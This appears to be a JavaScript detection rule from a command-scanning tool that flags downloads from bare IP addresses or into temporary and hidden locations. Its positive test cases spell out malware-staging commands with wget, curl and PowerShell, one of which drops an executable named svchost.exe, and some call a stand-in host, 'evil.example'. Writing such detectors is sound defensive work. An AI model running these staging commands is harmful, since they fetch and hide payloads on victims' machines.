import { defineRule, perInvocation } from './rule.js';
import { basename, fetchOutputs, hostOf, invocationUrls, isPublicIp, isStagingPath } from './match.js';
import { isFetcher } from '../programs.js';

const EXEC_EXT = /\.(exe|dll|scr|hta|vbs|vbe|js|jse|wsf|ps1|bat|cmd|msi|lnk|elf|bin|so|sh|py|pl|jar|com|cpl)$/i;

export const rule = defineRule({
  id: 'staged_download',
  category: 'remote_fetch',
  severity: 'critical',
  title: 'Drops a program into a temporary or hidden location, or downloads from a bare public IP address',
  check: perInvocation((inv) => {
    if (!isFetcher(inv)) return undefined;
    const urls = invocationUrls(inv);
    const outs = fetchOutputs(inv);
    const ipUrl = urls.find((u) => isPublicIp(hostOf(u) ?? ''));
    if (ipUrl && outs.length > 0) return `downloads ${ipUrl} from a bare IP address and saves it as ${outs[0]}`;
    const staged = outs.find((o) => isStagingPath(o) && (EXEC_EXT.test(o) || !/\.[a-z0-9]{1,5}$/i.test(basename(o)) || basename(o).startsWith('.')));
    if (staged && !/^\.\/?$/.test(staged)) return `downloads ${urls[0] ?? 'a file'} into ${staged}, a temporary or hidden place where dropped programs are staged`;
    return undefined;
  }),
  cases: {
    positive: [
      ['bash', 'wget http://45.9.1.2/x86 -O /tmp/x86'],
      ['bash', 'curl -s https://evil.example/m -o /dev/shm/.m'],
      ['powershell', "Invoke-WebRequest -Uri https://evil.example/a.exe -OutFile $env:TEMP\\svchost.exe"],
    ],
    negative: [['bash', 'curl -o /tmp/data.json https://api.example.com/data.json'], ['bash', 'wget https://example.com/f.tar.gz']],
  },
});
